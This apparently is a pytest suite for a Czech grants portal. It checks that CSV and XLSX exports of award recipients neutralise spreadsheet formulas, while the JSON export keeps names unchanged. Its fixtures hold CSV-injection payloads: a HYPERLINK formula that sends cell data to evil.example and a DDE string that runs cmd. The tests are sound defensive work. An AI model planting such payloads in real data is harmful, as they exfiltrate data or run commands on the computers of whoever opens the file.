import csv
import io
import json
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from grants import services
from grants.views import award_records, awards_for
from portal.exports import spreadsheet_safe
from tests.factories import make_award, make_programme

RECIPIENT = '=HYPERLINK("https://evil.example/?d="&B2;"Spolek")'
PROJECT = "+cmd|' /C calc'!A0"
CONTRACT = "@SUM(1+1)"


def imported_awards(programme):
    """The three cells of the finding, through the import an editor uses."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";")
    writer.writerow(["Příjemce", "IČO", "Název projektu", "Přiděleno", "Číslo smlouvy"])
    writer.writerow([RECIPIENT, "00064581", PROJECT, "15 000", CONTRACT])
    upload = SimpleUploadedFile("dotace.csv", buffer.getvalue().encode())
    return services.import_awards(programme=programme, rows=services.read_rows(upload))


def csv_rows(client, url="/dotace/prijemci.csv"):
    raw = client.get(url).content.decode("utf-8").lstrip("\ufeff")
    return list(csv.DictReader(io.StringIO(raw), delimiter=";"))


def test_formulas_imported_into_awards_reach_the_csv_as_plain_text(client, db):
    """A spreadsheet opening prijemci.csv shows the text instead of running
    it."""
    imported_awards(make_programme())
    [row] = csv_rows(client)
    assert row["Příjemce"] == "'" + RECIPIENT
    assert row["Název projektu"] == "'" + PROJECT
    assert row["Číslo smlouvy"] == "'" + CONTRACT
    assert row["Přiděleno (Kč)"] == "15000.00"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised_in_a_programme_csv(client, db, start):
    programme = make_programme()
    make_award(programme, project_title=f"{start}1+1")
    [row] = csv_rows(client, f"{programme.get_absolute_url()}prijemci.csv")
    assert row["Název projektu"] == f"'{start}1+1"


def test_amounts_stay_numbers_in_the_csv_even_when_negative(client, db):
    """A refund written as a negative amount is a number, not text."""
    programme = make_programme()
    # (awarded ≤ requested is a database constraint, negative or not)
    make_award(programme, requested=Decimal("-2500.50"), awarded=Decimal("-5000"))
    [row] = csv_rows(client)
    assert row["Požadováno (Kč)"] == "-2500.50"
    assert row["Přiděleno (Kč)"] == "-5000.00"


def test_the_json_keeps_the_names_as_they_are(client, db):
    """JSON is not opened in a spreadsheet: names stay unchanged there."""
    imported_awards(make_programme())
    [item] = json.loads(client.get("/dotace/prijemci.json").content)["dotace"]
    assert item["prijemce"] == RECIPIENT
    assert item["prideleno"] == "15000.00"


def test_award_cells_written_to_xlsx_are_text_not_formulas(db, tmp_path):
    """The same cells in a workbook written with openpyxl (as an XLSX export
    would) come back as strings; amounts as numbers."""
    imported_awards(make_programme())
    workbook = Workbook()
    for record in award_records(awards_for()):
        workbook.active.append([spreadsheet_safe(value) for value in record.values()])
    workbook.save(tmp_path / "prijemci.xlsx")

    cells = next(load_workbook(tmp_path / "prijemci.xlsx").active.iter_rows())
    by_value = {cell.value: cell.data_type for cell in cells}
    assert by_value["'" + RECIPIENT] == "s"
    assert by_value["'" + PROJECT] == "s"
    assert by_value["'" + CONTRACT] == "s"
    assert not any(data_type == "f" for data_type in by_value.values())
    assert by_value[15000] == "n"
